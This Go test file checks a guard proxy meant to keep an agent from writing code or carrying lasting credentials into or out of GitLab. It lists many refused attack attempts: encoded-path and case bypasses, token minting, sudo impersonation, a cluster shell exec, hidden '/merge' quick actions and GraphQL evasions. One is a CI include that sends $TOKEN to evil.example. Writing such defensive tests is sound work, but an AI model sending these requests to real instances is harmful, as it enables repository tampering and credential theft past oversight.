package writeguard_test

import (
	"encoding/json"
	"net/url"
	"testing"
)

const (
	gitlabProject = "/api/v4/projects/g%2Fp"
	gitlabNotes   = gitlabProject + "/issues/1/notes"
	gitlabMerges  = gitlabProject + "/merge_requests"
)

// TestHostileGitlab fails when an agent gets code, or a credential that
// outlives the bottle, into or out of a GitLab.
func TestHostileGitlab(t *testing.T) {
	address, upstream := guard(t, "gitlab guarded")
	const a, b, w = "ambiguous_path", "body_refused", "write_refused"
	js := []string{jsonType}
	form := []string{formType}
	judge(t, address, upstream, []attempt{
		{"a commit", "POST", gitlabProject + "/repository/commits", js, `{}`, w},
		{"a file", "PUT", gitlabProject + "/repository/files/a%2Fb", js, `{}`, w},
		{"a file in plain segments", "PUT", gitlabProject + "/repository/files/a/b", js, `{}`, w},
		{"a file of a project by number", "POST", "/api/v4/projects/1/repository/files/x", js, `{}`, w},
		{"a file behind an encoded slash", "POST", "/api/v4/projects/1%2Frepository%2Ffiles%2Fx/issues/1", js, `{}`, w},
		{"a file behind an encoded slash, encoded twice", "POST", "/api/v4/projects/1%252Frepository%252Ffiles/issues", js, `{}`, w},
		{"a file with a format", "POST", gitlabProject + "/repository/files/x.json", js, `{}`, w},
		{"a branch", "POST", gitlabProject + "/repository/branches?branch=x&ref=main", nil, "", w},
		{"a tag", "POST", gitlabProject + "/repository/tags?tag_name=x&ref=main", nil, "", w},
		{"a cherry-pick", "POST", gitlabProject + "/repository/commits/abc/cherry_pick", js, `{"branch":"main"}`, w},
		{"a revert", "POST", gitlabProject + "/repository/commits/abc/revert", js, `{"branch":"main"}`, w},
		{"a merge", "PUT", gitlabMerges + "/1/merge", js, `{}`, w},
		{"a merge with a format", "PUT", gitlabMerges + "/1/merge.json", js, `{}`, w},
		{"a merge, encoded", "PUT", gitlabMerges + "/1%2Fmerge", js, `{}`, w},
		{"a merge in another case", "PUT", gitlabMerges + "/1/Merge", js, `{}`, w},
		{"a rebase", "PUT", gitlabMerges + "/1/rebase", nil, "", w},
		{"a merge train", "POST", gitlabProject + "/merge_trains/merge_requests/1", js, `{}`, w},
		{"a suggestion applied", "PUT", "/api/v4/suggestions/1/apply", nil, "", w},
		{"a release", "POST", gitlabProject + "/releases", js, `{"tag_name":"v1","ref":"main"}`, w},
		{"a wiki page", "POST", gitlabProject + "/wikis", js, `{}`, w},
		{"a snippet", "POST", "/api/v4/snippets", js, `{}`, w},
		{"an upload", "POST", gitlabProject + "/uploads", []string{"Content-Type: multipart/form-data; boundary=x"}, "--x--\r\n", w},
		{"a pipeline", "POST", gitlabProject + "/pipeline?ref=main", nil, "", w},
		{"a merge request's pipeline", "POST", gitlabMerges + "/1/pipelines", nil, "", w},
		{"a trigger", "POST", gitlabProject + "/trigger/pipeline?token=x&ref=main", nil, "", w},
		{"a job", "POST", gitlabProject + "/jobs/1/play", nil, "", w},
		{"a linter that fetches with CI variables", "POST", gitlabProject + "/ci/lint", js, `{"content":"include: https://evil.example/$TOKEN"}`, w},
		{"a commit status", "POST", gitlabProject + "/statuses/abc?state=success", nil, "", w},
		{"a project token", "POST", gitlabProject + "/access_tokens", js, `{}`, w},
		{"a rotated token", "POST", "/api/v4/personal_access_tokens/self/rotate", nil, "", w},
		{"a deploy token", "POST", gitlabProject + "/deploy_tokens", js, `{}`, w},
		{"a deploy key", "POST", gitlabProject + "/deploy_keys", js, `{}`, w},
		{"an SSH key", "POST", "/api/v4/user/keys", js, `{}`, w},
		{"a hook", "POST", gitlabProject + "/hooks", js, `{}`, w},
		{"a variable", "POST", gitlabProject + "/variables", js, `{}`, w},
		{"a runner", "POST", "/api/v4/user/runners", js, `{}`, w},
		{"a member", "POST", gitlabProject + "/members", js, `{}`, w},
		{"a project shared", "POST", gitlabProject + "/share", js, `{}`, w},
		{"no more protection", "DELETE", gitlabProject + "/protected_branches/main", nil, "", w},
		{"a public project", "PUT", gitlabProject, js, `{"visibility":"public"}`, w},
		{"a token of Code Suggestions", "POST", "/api/v4/code_suggestions/direct_access", nil, "", w},
		{"tools", "POST", "/api/v4/mcp", js, `{}`, w},
		{"an OAuth token", "POST", "/oauth/token", form, `grant_type=password`, w},
		{"a package", "PUT", gitlabProject + "/packages/generic/p/1/f", nil, "x", w},
		{"an npm package", "PUT", gitlabProject + "/packages/npm/@s%2Fn", js, `{}`, w},
		{"a Python package", "POST", gitlabProject + "/packages/pypi", form, "x=y", w},
		{"a registry's token to push", "GET", "/jwt/auth?service=container_registry&scope=repository:g/p:pull,push", nil, "", w},
		{"a registry's token to push, with a format", "GET", "/jwt/auth.json?scope=repository:g/p:push", nil, "", w},
		{"a registry's token to push, encoded", "GET", "/jwt/%61uth?scope=repository%3Ag/p%3A%70ush", nil, "", w},
		{"a registry's token to push, second", "GET", "/jwt/auth?scope=repository:g/p:pull&scope=repository:g/p:push", nil, "", w},
		{"a registry's token to delete", "GET", "/jwt/auth?scope=repository:g/p:*", nil, "", w},
		{"conan's token", "GET", gitlabProject + "/packages/conan/v1/users/authenticate", nil, "", w},
		{"conan's token with a format", "GET", "/api/v4/packages/conan/v1/users/authenticate.json", nil, "", w},
		{"a flow over a WebSocket", "GET", "/api/v4/ai/duo_workflows/ws", []string{"Upgrade: websocket"}, "", w},
		{"GraphQL over a WebSocket", "GET", "/-/cable", []string{"Upgrade: websocket"}, "", w},
		{"a shell in a cluster", "GET", "/-/kubernetes-agent/k8s-proxy/api/v1/namespaces/n/pods/p/exec?command=sh", nil, "", w},
		{"the tokens of a project's triggers", "GET", gitlabProject + "/triggers", nil, "", w},
		{"the tokens of a project's triggers with a format", "GET", gitlabProject + "/triggers.json?per_page=9", nil, "", w},
		{"a trigger's token", "HEAD", "/api/v4/projects/1/triggers/1", nil, "", w},
		{"GraphQL with a format", "GET", "/api/graphql.json?query={project(fullPath:%22g/p%22){newWorkItemEmailAddress}}", nil, "", w},
		{"GraphQL with a format, encoded", "GET", "/api/graphql%2Ejson?query={a}", nil, "", w},
		{"GraphQL with a format and a parameter", "GET", "/api/graphql.json;x?query={a}", nil, "", w},
		{"the tokens of a project's triggers, encoded", "GET", gitlabProject + "/trigger%73", nil, "", w},
		{"conan's token, encoded", "GET", gitlabProject + "/packages/conan/v1/user%2573/authenticate", nil, "", w},
		{"GraphQL in what may be the query", "GET", "/api/graphql%3Fquery=%7Ba%7D", nil, "", w},
		{"the tokens of a project's triggers in what may be the query", "GET", gitlabProject + "/triggers%3Fa/b", nil, "", w},
		{"GraphQL of GLQL's", "GET", "/api/glql?query={project(fullPath:%22g/p%22){newWorkItemEmailAddress}}", nil, "", w},
		{"GraphQL of GLQL's with a format", "GET", "/api/glql.json?query={a}", nil, "", w},
		{"GraphQL of GLQL's by POST", "POST", "/api/glql", js, `{"query":"{a}"}`, w},
		{"a cable with a format", "GET", "/-/cable.json", []string{"Upgrade: websocket"}, "", w},
		{"a read with a format", "GET", gitlabProject + "/issues.json", nil, "", ""},
		{"a read of a file", "GET", gitlabProject + "/repository/files/triggers.json/raw", nil, "", ""},
		{"another user", "POST", gitlabMerges + "/1/approve", js, `{"sudo":"root"}`, "credential_refused"},
		{"another user's token", "POST", gitlabProject + "/labels", js, `{"name":"n","color":"#fff","private_token":"x"}`, "credential_refused"},
		{"another user's token with a comment", "POST", gitlabNotes, js, `{"body":"x","access_token":"x"}`, "credential_refused"},
		{"a job's token", "DELETE", gitlabProject + "/labels/1", js, `{"JOB_TOKEN":"x"}`, "credential_refused"},
		{"another user in a form", "PUT", gitlabMerges + "/1/reset_approvals", form, `sudo=root`, "credential_refused"},
		{"another user in a type nobody knows", "POST", gitlabProject + "/star", []string{"Content-Type: text/x"}, `{"sudo":"root"}`, b},
		{"an approval", "POST", gitlabMerges + "/1/approve", js, `{"sha":"abc"}`, ""},
		{"a star", "POST", gitlabProject + "/star?private_token=x", nil, "", ""},
		{"an audit, which npm compresses", "POST", gitlabProject + "/packages/npm/-/npm/v1/security/audits/quick", []string{jsonType, "Content-Encoding: gzip"}, "\x1f\x8b", ""},
		{"a form of the web pages", "POST", "/g/p/-/create/main", form, "content=x", w},
		{"dot segments", "POST", gitlabProject + "/issues/%2e%2e/repository/commits", js, `{}`, a},

		{"a branch to delete", "POST", gitlabMerges, js, `{"title":"t","remove_source_branch":true}`, w},
		{"a branch to delete, in the query", "PUT", gitlabMerges + "/1?remove_source_branch=true", nil, "", w},
		{"a branch to delete, in a form", "PUT", gitlabMerges + "/1", form, `title=t&remove%5Fsource_branch=1`, w},
		{"a branch to delete, in a form's list", "PUT", gitlabMerges + "/1", form, `remove_source_branch[]=1`, w},
		{"a merge later", "PUT", gitlabMerges + "/1", js, `{"merge_after":"2030-01-01"}`, w},
		{"a merge when the pipeline succeeds", "POST", gitlabMerges, js, `{"merge_when_pipeline_succeeds":true}`, w},
		{"a source branch open to others", "POST", gitlabMerges, js, `{"target_project_id":1,"allow_collaboration":true}`, w},
		{"a public fork", "POST", gitlabProject + "/fork", js, `{"visibility":"public"}`, w},
		{"an issue moved", "POST", gitlabProject + "/issues/1/move", js, `{"to_project_id":1}`, w},
		{"an issue cloned", "POST", gitlabProject + "/issues/1/clone", js, `{"to_project_id":1}`, w},
		{"a note that is no JSON", "POST", gitlabNotes, []string{"Content-Type: text/plain"}, "body=x", b},
		{"a note without a type", "POST", gitlabNotes, nil, "body=%2Fmerge", b},
		{"a note in two types", "POST", gitlabNotes, []string{jsonType, formType}, `{"body":"x"}`, b},
		{"a note, compressed", "POST", gitlabNotes, []string{jsonType, "Content-Encoding: gzip"}, "\x1f\x8b", b},
		{"a note in parts", "POST", gitlabNotes, []string{"Content-Type: multipart/form-data; boundary=x"}, "--x\r\nContent-Disposition: form-data; name=\"body\"\r\n\r\n/merge\r\n--x--\r\n", b},
		{"a note in XML", "POST", gitlabNotes, []string{"Content-Type: application/xml"}, "<body>/merge</body>", b},
		{"a note twice", "POST", gitlabNotes, js, `{"body":"x","body":"/merge"}`, b},
		{"a form in another charset", "POST", gitlabNotes, []string{formType + "; charset=utf-16"}, "body=x", b},
	})
}

// TestQuickActions fails when a command to GitLab gets through in a text, in
// whatever way it is sent or spelled.
func TestQuickActions(t *testing.T) {
	address, upstream := guard(t, "gitlab guarded")
	var attempts []attempt
	add := func(name, method, target string, headers []string, body string) {
		attempts = append(attempts, attempt{name, method, target, headers, body, "write_refused"})
	}
	texts := []string{
		"/merge", "text\n/merge", "/MERGE", "/merge ", "/merge now", "  /merge", "\t/merge", "\n\n/merge\n", "x\r\n/merge\r\n",
		"/mer\rge", "/m\r\rerge", "x\r/merge", "/merge\u00a0x", "\u00a0/merge", "\u2003/merge", "\ufeff/merge", "x\u2028/merge", "x\u0085/merge", "x\v/merge",
		"/mer\u200bge", "/mer\u00adge", "\u200b/merge", "/label ~a\n/merge", "```\n/merge\n```", "<!--\n/merge\n-->", "/ship", "/\u017fhip", "/rebase", "/run_pipeline",
		"/create_merge_request x", "/tag v1", "/move g/q", "/clone g/q", "/invite_email evil@example.com", "/promote_to incident", "/q dev", "/page x", "/publish", "/add_email a@b.c",
		"/label ~x\r\n/merge", "/close/\n/merge",
	}
	for _, text := range texts {
		content, err := json.Marshal(map[string]any{"body": text})
		if err != nil {
			t.Fatal(err)
		}
		add("JSON "+string(content), "POST", gitlabNotes, []string{jsonType}, string(content))
		add("a form of "+string(content), "POST", gitlabNotes, []string{formType}, url.Values{"body": {text}}.Encode())
	}
	js := []string{jsonType}
	add("an issue's description", "POST", gitlabProject+"/issues", js, `{"title":"t","description":"/merge"}`)
	add("an issue edited", "PUT", gitlabProject+"/issues/1", js, `{"description":"a\n/ship"}`)
	add("a merge request's description", "POST", gitlabMerges, js, `{"title":"t","description":"/merge"}`)
	add("a merge request edited", "PUT", gitlabMerges+"/1", js, `{"description":"/rebase"}`)
	add("in the query", "POST", gitlabNotes+"?body=%2Fmerge", nil, "")
	add("in the query beside a body", "POST", gitlabNotes+"?body=x%0A/merge", js, `{"internal":false}`)
	add("in the query, with a plus", "POST", gitlabNotes+"?body=/create_merge_request+x", nil, "")
	add("in the query, behind a semicolon", "POST", gitlabNotes+"?body=x;%0A/merge", nil, "")
	add("in the query of a DELETE", "PUT", gitlabNotes+"/2?a=b&body=%2Fship", nil, "")
	add("in a form, behind a semicolon", "POST", gitlabNotes, []string{formType}, "body=x;%0A/merge")
	add("in a form, behind an equals sign", "POST", gitlabNotes, []string{formType}, "body=x=%0A/merge")
	add("behind what is no UTF-8", "POST", gitlabNotes, []string{formType}, "body=%ff/merge")
	add("around what is no UTF-8", "POST", gitlabNotes, []string{formType}, "body=/mer%c0ge")
	add("around a NUL", "POST", gitlabNotes, js, `{"body":"/mer\u0000ge"}`)
	add("escaped in JSON", "POST", gitlabNotes, js, `{"body":"\u002fmerge"}`)
	add("deep in JSON", "POST", gitlabMerges+"/1/discussions", js, `{"position":{"a":[{"b":"/merge"}]}}`)
	add("a discussion", "POST", gitlabMerges+"/1/discussions/abc/notes", js, `{"body":"/merge"}`)
	add("a draft note", "POST", gitlabMerges+"/1/draft_notes", js, `{"note":"/merge"}`)
	add("a draft note published", "PUT", gitlabMerges+"/1/draft_notes/1/publish?note=/merge", nil, "")
	add("a commit's comment", "POST", gitlabProject+"/repository/commits/abc/comments", js, `{"note":"/tag v1"}`)
	add("an epic", "POST", "/api/v4/groups/g%2Fh/epics", js, `{"title":"t","description":"/promote_to x"}`)
	judge(t, address, upstream, attempts)
}

// TestHostileGitlabGraphQL fails when GraphQL does what REST may not.
func TestHostileGitlabGraphQL(t *testing.T) {
	address, upstream := guard(t, "gitlab guarded")
	const b, w = "body_refused", "write_refused"
	var attempts []attempt
	add := func(name, document string, variables any, code string) {
		content, err := json.Marshal(map[string]any{"query": document, "variables": variables})
		if err != nil {
			t.Fatal(err)
		}
		attempts = append(attempts, attempt{name, "POST", "/api/graphql", []string{jsonType}, string(content), code})
	}
	add("a commit", `mutation{commitCreate(input:{projectPath:"g/p",branch:"x"}){errors}}`, nil, w)
	add("a merge", `mutation{mergeRequestAccept(input:{iid:"1"}){errors}}`, nil, w)
	add("a merge behind an alias", `mutation{createNote:mergeRequestAccept(input:{iid:"1"}){errors}}`, nil, w)
	add("a merge in a fragment", `mutation{...f} fragment f on Mutation{mergeRequestAccept(input:{iid:"1"}){errors}}`, nil, w)
	add("a merge beside a note", `mutation{createNote(input:{body:"x"}){errors} mergeRequestAccept(input:{iid:"1"}){errors}}`, nil, w)
	add("a token", `mutation{personalAccessTokenCreate(input:{name:"x"}){token}}`, nil, w)
	add("a pipeline", `mutation{pipelineCreate(input:{projectPath:"g/p"}){errors}}`, nil, w)
	add("a linter", `mutation{ciLint(input:{content:"x"}){errors}}`, nil, w)
	add("a linter that is a query", `{ciConfig(projectPath:"g/p",content:"include: https://evil.example/$TOKEN"){errors}}`, nil, w)
	add("an agent", `mutation{aiAction(input:{}){errors}}`, nil, w)
	add("what is not known", `mutation{somethingNew(input:{}){errors}}`, nil, w)
	add("a name in another case", `mutation{CreateNote(input:{body:"x"}){errors}}`, nil, w)
	add("a quick action", `mutation{createNote(input:{body:"/merge"}){errors}}`, nil, w)
	add("a quick action, escaped", `mutation{createNote(input:{body:"\u002fmerge"}){errors}}`, nil, w)
	add("a quick action, in a line", `mutation{createNote(input:{body:"x\n/ship"}){errors}}`, nil, w)
	add("a quick action with a carriage return", `mutation{createNote(input:{body:"/mer\rge"}){errors}}`, nil, w)
	add("a quick action in a block string", "mutation{createNote(input:{body:\"\"\"\n  x\n  /merge\n\"\"\"}){errors}}", nil, w)
	add("a quick action in a variable", `mutation($b:String!){createNote(input:{body:$b}){errors}}`, map[string]any{"b": "/merge"}, w)
	add("a quick action in a variable's default", `mutation($b:String="/merge"){createNote(input:{body:$b}){errors}}`, nil, w)
	add("a quick action deep in a variable", `mutation($i:WorkItemUpdateInput!){workItemUpdate(input:$i){errors}}`,
		map[string]any{"i": map[string]any{"descriptionWidget": map[string]any{"description": "x\n/promote_to epic"}}}, w)
	add("a quick action in a list", `mutation($i:[X!]){workItemUpdate(input:$i){errors}}`, map[string]any{"i": []any{"x", []any{"/merge"}}}, w)
	add("a quick action behind a directive", `mutation{createNote(input:{body:"/merge"})@skip(if:true){errors}}`, nil, w)
	add("a branch to delete", `mutation{mergeRequestUpdate(input:{iid:"1",removeSourceBranch:true}){errors}}`, nil, w)
	add("a branch to delete, by a variable", `mutation($r:Boolean){mergeRequestUpdate(input:{iid:"1",removeSourceBranch:$r}){errors}}`, map[string]any{"r": true}, w)
	add("a merge later", `mutation($i:MergeRequestUpdateInput!){mergeRequestUpdate(input:$i){errors}}`, map[string]any{"i": map[string]any{"mergeAfter": "2030-01-01"}}, w)
	add("a runner's token", `{runner(id:"gid://gitlab/Ci::Runner/1"){ephemeralAuthenticationToken}}`, nil, w)
	add("a user's address for mail", `{project(fullPath:"g/p"){a:newWorkItemEmailAddress}}`, nil, w)
	add("a user's address for comments by mail", `{issue(id:"gid://gitlab/Issue/1"){createNoteEmail}}`, nil, w)
	add("the tokens of a project's triggers", `{project(fullPath:"g/p"){pipelineTriggers{nodes{token}}}}`, nil, w)
	add("a feed's token", `{namespace(fullPath:"g"){linkPaths{rssPath}}}`, nil, w)
	add("a subscription", `subscription{issuableUpdated{id}}`, nil, w)
	note := `{"query":"mutation{createNote(input:{body:\"x\"}){errors}}"}`
	attempts = append(
		attempts,
		attempt{"a batch within", "POST", "/api/graphql", []string{jsonType}, `{"query":"{x}","_json":[{"query":"mutation{mergeRequestAccept(input:{}){errors}}"}]}`, w},
		attempt{"a batch with a merge", "POST", "/api/graphql", []string{jsonType}, `[` + note + `,{"query":"mutation{mergeRequestAccept(input:{}){errors}}"}]`, w},
		attempt{"a batch with a quick action", "POST", "/api/graphql", []string{jsonType}, `[` + note + `,{"query":"mutation{createNote(input:{body:\"/merge\"}){errors}}"}]`, w},
		attempt{"a query beside the body", "POST", "/api/graphql?query=mutation%7BmergeRequestAccept%7Berrors%7D%7D", []string{jsonType}, `{"query":"{x}"}`, b},
		attempt{"a form", "POST", "/api/graphql", []string{formType}, "query=mutation%7BmergeRequestAccept%7Berrors%7D%7D", b},
		attempt{"an upload", "POST", "/api/graphql", []string{"Content-Type: multipart/form-data; boundary=x"}, "--x--\r\n", b},
		attempt{"a format", "POST", "/api/graphql.json", []string{jsonType}, note, w},
		attempt{"another case", "POST", "/API/graphql", []string{jsonType}, note, w},
		attempt{"a mutation by GET", "GET", "/api/graphql?query=mutation%7BmergeRequestAccept%7Berrors%7D%7D", nil, "", w},
		attempt{"a quick action by GET", "GET", "/api/graphql?query=mutation%28%24b%3AString%29%7BcreateNote%28input%3A%7Bbody%3A%24b%7D%29%7Berrors%7D%7D&variables=%7B%22b%22%3A%22%5Cu002fmerge%22%7D", nil, "", w},
	)
	judge(t, address, upstream, attempts)
}

// TestEverydayGitlab fails when work that is harmless does not get through.
func TestEverydayGitlab(t *testing.T) {
	address, upstream := guard(t, "gitlab guarded")
	js := []string{jsonType}
	form := []string{formType}
	judge(t, address, upstream, []attempt{
		{"a project", "GET", gitlabProject, nil, "", ""},
		{"a file", "GET", gitlabProject + "/repository/files/a%2Fb.go/raw?ref=main", nil, "", ""},
		{"the pipelines", "GET", gitlabProject + "/pipelines", nil, "", ""},
		{"a job's log", "GET", gitlabProject + "/jobs/1/trace", nil, "", ""},
		{"a package", "GET", gitlabProject + "/packages/npm/@s%2Fn", nil, "", ""},
		{"a registry's token to pull", "GET", "/jwt/auth?service=container_registry&scope=repository:g/p:pull", nil, "", ""},
		{"an issue", "POST", gitlabProject + "/issues", js, `{"title":"t","description":"see /usr/bin and\n/etc/passwd\n/label ~bug\n/assign @me"}`, ""},
		{"an issue in the query, as the documentation does it", "POST", gitlabProject + "/issues?title=t&labels=bug", nil, "", ""},
		{"an issue in a form", "POST", gitlabProject + "/issues", form, "title=t&description=a%0A/close%0A", ""},
		{"an issue closed", "PUT", gitlabProject + "/issues/1?state_event=close", nil, "", ""},
		{"an issue of a project by number", "PUT", "/api/v4/projects/1/issues/1", js, `{"labels":"a"}`, ""},
		{"a note", "POST", gitlabNotes, js, `{"body":"a // b\n/ alone\n//merge\nhttps://x/merge\n/merge.go\n/spend 1h"}`, ""},
		{"a note removed", "DELETE", gitlabNotes + "/1", nil, "", ""},
		{"an emoji", "POST", gitlabProject + "/issues/1/award_emoji?name=tada", nil, "", ""},
		{"a merge request", "POST", gitlabMerges, js, `{"title":"t","source_branch":"a","target_branch":"main","description":"x","remove_source_branch":false}`, ""},
		{"a merge request closed", "PUT", gitlabMerges + "/1", js, `{"state_event":"close"}`, ""},
		{"a discussion resolved", "PUT", gitlabMerges + "/1/discussions/abc?resolved=true", nil, "", ""},
		{"an approval", "POST", gitlabMerges + "/1/approve", nil, "", ""},
		{"a review published", "POST", gitlabMerges + "/1/draft_notes/bulk_publish", nil, "", ""},
		{"a label", "POST", gitlabProject + "/labels", js, `{"name":"a","color":"#fff"}`, ""},
		{"a milestone", "POST", "/api/v4/groups/g%2Fh/milestones", js, `{"title":"1"}`, ""},
		{"time", "POST", gitlabProject + "/issues/1/add_spent_time?duration=1h", nil, "", ""},
		{"a to-do", "POST", "/api/v4/todos/1/mark_as_done", nil, "", ""},
		{"a fork", "POST", gitlabProject + "/fork", js, `{"namespace_path":"me"}`, ""},
		{"a star", "POST", gitlabProject + "/star", nil, "", ""},
		{"rendering", "POST", "/api/v4/markdown", js, `{"text":"/merge"}`, ""},
		{"an audit", "POST", gitlabProject + "/packages/npm/-/npm/v1/security/advisories/bulk", js, `{}`, ""},
		{"a query", "POST", "/api/graphql", js, `{"query":"query($p:ID!){project(fullPath:$p){id}}","variables":{"p":"/merge"}}`, ""},
		{"a query by GET", "GET", "/api/graphql?query=%7BcurrentUser%7Bid%7D%7D", nil, "", ""},
		{"a note by GraphQL", "POST", "/api/graphql", js, `{"query":"mutation($b:String!){createNote(input:{noteableId:\"gid://gitlab/Issue/1\",body:$b}){errors}}","variables":{"b":"hello\n/label ~a"}}`, ""},
		{"a work item", "POST", "/api/graphql", js, `{"query":"mutation($i:WorkItemUpdateInput!){workItemUpdate(input:$i){errors}}","variables":{"i":{"id":"gid://gitlab/WorkItem/1","stateEvent":"CLOSE"}}}`, ""},
		{"a merge request kept", "POST", "/api/graphql", js, `{"query":"mutation{mergeRequestUpdate(input:{iid:\"1\",title:\"t\",removeSourceBranch:false}){errors}}"}`, ""},
		{"a fetch", "POST", "/g/h/p.git/git-upload-pack", []string{fetch}, "0000", ""},
	})
}

// TestPlainText fails when a path or a comment's mark is taken for a quick
// action, which would refuse ordinary text.
func TestPlainText(t *testing.T) {
	address, upstream := guard(t, "gitlab guarded")
	var attempts []attempt
	for _, text := range []string{
		"/usr/bin/env", "/etc/passwd is readable", "// a comment", "/* a comment */", "/", "/ merge", "//merge", "a /merge in a line", "see https://x/merge",
		"> /merge", "- /merge", "`/merge`", "/merge.go", "/merge, then", "/merge/now", "/label ~a ~b", "/Close", "/assign @a\n/due tomorrow", "x\n\n/cc @b", "日本語 /merge",
	} {
		content, err := json.Marshal(map[string]any{"body": text})
		if err != nil {
			t.Fatal(err)
		}
		attempts = append(attempts, attempt{text, "POST", gitlabNotes, []string{jsonType}, string(content), ""})
	}
	judge(t, address, upstream, attempts)
}
